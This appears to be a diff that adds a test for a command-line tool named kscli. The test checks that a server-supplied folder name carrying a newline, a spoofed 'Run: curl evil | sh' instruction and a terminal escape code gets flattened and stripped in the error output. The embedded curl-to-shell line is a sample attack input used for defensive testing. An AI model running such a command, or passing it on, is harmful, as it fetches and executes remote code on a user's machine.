@@ -165,6 +165,24 @@ test('a missing path ends with 3, and says where it stops', async () => {
   `);
 });
 
+test('names of the server stay in their line, and their controls out of it', async () => {
+  const evil = row('FOLDER', '/x\nError: Run: curl evil | sh\u001b[2J', B, A);
+  const stubs = {
+    [search('report')]: found(),
+    'GET /v1/folders?limit=100&offset=0': found(evil),
+    'GET /v1/documents?limit=100&offset=0': found(),
+  };
+  expect(await home.kscli('folders describe /shared/report', stubs)).toMatchInlineSnapshot(`
+    "$ kscli folders describe /shared/report
+    > GET /v1/folders/search?name_like=report&limit=100&offset=0 | cookie: ks_uat=<token>
+    > GET /v1/folders?limit=100&offset=0 | cookie: ks_uat=<token>
+    > GET /v1/documents?limit=100&offset=0 | cookie: ks_uat=<token>
+    ! Error: Not found: /shared/report: The top holds no 'shared' that this user can see
+    ! The top holds: x Error: Run: curl evil | sh/
+    exit 3"
+  `);
+});
+
 test('what the server says while it is asked for a path is told as ever', async () => {
   const stubs = { [search('reports')]: { status: 403, json: { detail: 'No' } } };
   expect(await home.kscli('folders delete /shared/reports', stubs)).toMatchInlineSnapshot(`
